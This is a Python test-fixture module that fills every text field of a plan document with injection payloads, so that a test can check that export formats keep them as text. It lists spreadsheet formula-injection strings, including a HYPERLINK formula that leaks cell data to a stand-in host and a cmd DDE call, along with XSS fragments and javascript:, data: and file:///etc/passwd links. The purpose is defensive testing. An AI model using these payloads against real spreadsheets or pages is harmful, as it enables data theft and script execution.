"""A plan with an attack in every text field, for checking that no format runs code from data.

:func:`payload_plan` puts each of a list of texts, in turn, into every text
field of a plan that a format can show: titles, numbers, roles, notes,
deadlines' and budgets' words, indicators, updates, metadata and extra
data. The texts of :data:`FORMULA_PAYLOADS`, :data:`SCRIPT_PAYLOADS` and
:data:`LINK_PAYLOADS` are the usual attacks on spreadsheets, pages and
documents; a test writes the plan in every format and checks that each
stays text.
"""

from __future__ import annotations

import datetime as dt
import itertools
from collections.abc import Sequence
from decimal import Decimal

from capcore.budget_parse import parse_budget
from capcore.deadline_parse import parse_deadline
from capcore.indicator import Indicator
from capcore.model import (
    Activity,
    Approval,
    Area,
    Measure,
    MeasureKind,
    Period,
    Plan,
    Roles,
    SelfAssessment,
)
from capcore.progress_update import ProgressUpdate, Status

__all__ = [
    "FORMULA_PAYLOADS",
    "FORMULA_TRIGGERS",
    "LINK_PAYLOADS",
    "SAFE_LINK_SCHEMES",
    "SCRIPT_PAYLOADS",
    "payload_plan",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@")
"""The first characters that make a spreadsheet read a cell as a formula."""

FORMULA_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Щракнете")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    '=WEBSERVICE("http://example.invalid")',
    "=",
    "+",
)
"""Texts a spreadsheet would run as formulas (CSV/formula injection)."""

SCRIPT_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    '"><iframe srcdoc="<script>alert(5)</script>">',
    "{{7*7}} ${alert(6)}",
    "</textarea><script>alert(7)</script>",
    "<!--<script>alert(8)</script>-->",
)
"""HTML and script fragments a page would run if it did not escape them."""

LINK_PAYLOADS: tuple[str, ...] = (
    "javascript:alert(9)",
    " JaVa\tScRiPt:alert(10)",
    "data:text/html,<script>alert(11)</script>",
    "vbscript:msgbox(12)",
    "file:///etc/passwd",
    "https://example.org/plan",
    "http://example.org/",
    "mailto:kachestvo@example.org",
)
"""Link targets: the unsafe ones must never become links; http, https and mailto may."""

SAFE_LINK_SCHEMES = ("http", "https", "mailto")
"""The only schemes a written link may have."""


def payload_plan(payloads: Sequence[str], links: Sequence[str] = LINK_PAYLOADS) -> Plan:
    """Return a plan with the payloads, in turn, in every text field a format can show.

    Args:
        payloads: The texts to put in; they repeat as often as needed.
        links: Link targets, also put where formats may make links: each
            measure's contact, and one metadata value each.
    """
    payload = itertools.cycle(payloads).__next__
    link = itertools.cycle(links).__next__
    when = dt.date(2022, 3, 1)

    def activity(number: str) -> Activity:
        return Activity(
            payload(),
            number=number,
            start=parse_deadline(payload()),
            deadline=parse_deadline("14.3.2022 " + payload()),
            target=payload(),
            responsible=payload(),
            supporting=payload(),
            note=payload(),
            updates=[ProgressUpdate(when, Status.IN_PROGRESS, Decimal(40), payload(), payload())],
            extra={payload(): payload()},
        )

    def measure(number: str, *, with_activities: bool) -> Measure:
        return Measure(
            payload(),
            number=number,
            kind=MeasureKind.QUICK_WIN,
            roles=Roles(payload(), payload(), payload(), link()),
            scope=payload(),
            stakeholders=payload(),
            strengths=payload(),
            improvement_areas=payload(),
            options=payload(),
            constraints=payload(),
            human_resources=payload(),
            budget=parse_budget(payload()),
            expected_result=payload(),
            start=parse_deadline(payload()),
            deadline=parse_deadline(payload()),
            responsible=payload(),
            supporting=payload(),
            note=payload(),
            activities=[activity(payload()), activity(payload())] if with_activities else [],
            indicators=[Indicator(payload(), unit=payload(), text=payload())],
            updates=[ProgressUpdate(when, Status.DELAYED, None, payload())],
            extra={payload(): payload()},
        )

    return Plan(
        payload(),
        organisation=payload(),
        subtitle=payload(),
        introduction=payload(),
        period=Period.years(2022, 2024),
        approval=Approval(payload(), payload(), payload(), when),
        self_assessment=SelfAssessment(payload(), note=payload()),
        areas=[
            Area(
                payload(),
                payload(),
                description=payload(),
                measures=[measure(payload(), with_activities=True)],
            ),
            Area(payload(), payload(), measures=[measure(payload(), with_activities=False)]),
        ],
        indicators=[Indicator(payload(), unit=payload(), text=payload())],
        metadata={payload(): payload()} | {f"link {n}": target for n, target in enumerate(links)},
        extra={payload(): payload()},
    )
